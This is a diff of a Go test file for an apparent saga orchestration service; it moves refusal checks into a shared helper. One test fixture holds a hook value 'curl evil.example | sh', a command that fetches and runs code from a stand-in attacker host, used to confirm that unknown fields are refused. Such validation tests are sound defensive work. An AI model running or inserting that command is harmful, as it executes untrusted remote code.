@@ -163,13 +163,9 @@ func TestInvalidRequestIsRefusedWithTheReason(t *testing.T) {
 		r := request("test")
 		r.Spec.To = r.Spec.From
 		id := w.submit(r)
-		natstest.Eventually(t, natstest.Patience, "refusal", func() bool { return len(w.sagaEvents(id)) == 1 })
-		e := natstest.ReadEvents[events.SagaEvent](t, w.js, events.StreamEvents, events.SagaSubject(id, events.KindInvalid), events.TypeSaga)[0]
+		e := w.refusal(id)
 		if !strings.Contains(e.Reason, "spec.targets: at least one target is required") || !strings.Contains(e.Reason, "spec.to: equals spec.from") {
 			t.Fatalf("reason %q", e.Reason)
-		}
-		if _, err := w.store.Load(context.Background(), id); !errors.Is(err, sagastore.ErrNotFound) {
-			t.Fatalf("a saga was created: %v", err)
 		}
 	})
 }
@@ -195,15 +191,11 @@ func TestUnknownFieldsOnTheBusMakeARequestInvalid(t *testing.T) {
 		doc["spec"].(map[string]any)["hooks"] = map[string]any{"start": "curl evil.example | sh"}
 		id := uuid.Must(uuid.NewV7()).String()
 		w.publish(events.RequestSubject("platform"), id, events.TypeRequest, doc)
-		natstest.Eventually(t, natstest.Patience, "refusal", func() bool { return len(w.sagaEvents(id)) == 1 })
-		e := natstest.ReadEvents[events.SagaEvent](t, w.js, events.StreamEvents, events.SagaSubject(id, events.KindInvalid), events.TypeSaga)[0]
+		e := w.refusal(id)
 		for _, want := range []string{"spec.commands: unknown field", "spec.hooks: unknown field"} {
 			if !strings.Contains(e.Reason, want) {
 				t.Errorf("reason %q lacks %q", e.Reason, want)
 			}
-		}
-		if _, err := w.store.Load(context.Background(), id); !errors.Is(err, sagastore.ErrNotFound) {
-			t.Fatalf("a saga was created: %v", err)
 		}
 	})
 }
@@ -219,13 +211,9 @@ func TestATargetNoServiceServesIsRefusedAtOnce(t *testing.T) {
 		r := request("test", "a", "ghost")
 		r.Spec.Timeouts.Precheck = sec(600) // far beyond the test's patience
 		id := w.submit(r)
-		natstest.Eventually(t, natstest.Patience, "refusal", func() bool { return len(w.sagaEvents(id)) == 1 })
-		e := natstest.ReadEvents[events.SagaEvent](t, w.js, events.StreamEvents, events.SagaSubject(id, events.KindInvalid), events.TypeSaga)[0]
+		e := w.refusal(id)
 		if !strings.Contains(e.Reason, `no service serves target "ghost"`) || strings.Contains(e.Reason, `"a"`) {
 			t.Fatalf("reason %q", e.Reason)
-		}
-		if _, err := w.store.Load(context.Background(), id); !errors.Is(err, sagastore.ErrNotFound) {
-			t.Fatalf("a saga was created: %v", err)
 		}
 	})
 }
@@ -634,4 +622,16 @@ func TestTheDocumentedRequestEventStartsASaga(t *testing.T) {
 			t.Fatalf("saga %s: %s (%s)", env.ID, s.State, s.Reason)
 		}
 	})
+}
+
+// refusal waits for a request's refusal and returns it, having checked that
+// no saga was created.
+func (w *world) refusal(id string) events.SagaEvent {
+	w.t.Helper()
+	natstest.Eventually(w.t, natstest.Patience, "refusal", func() bool { return len(w.sagaEvents(id)) == 1 })
+	e := natstest.ReadEvents[events.SagaEvent](w.t, w.js, events.StreamEvents, events.SagaSubject(id, events.KindInvalid), events.TypeSaga)[0]
+	if _, err := w.store.Load(context.Background(), id); !errors.Is(err, sagastore.ErrNotFound) {
+		w.t.Fatalf("a saga was created: %v", err)
+	}
+	return e
 }
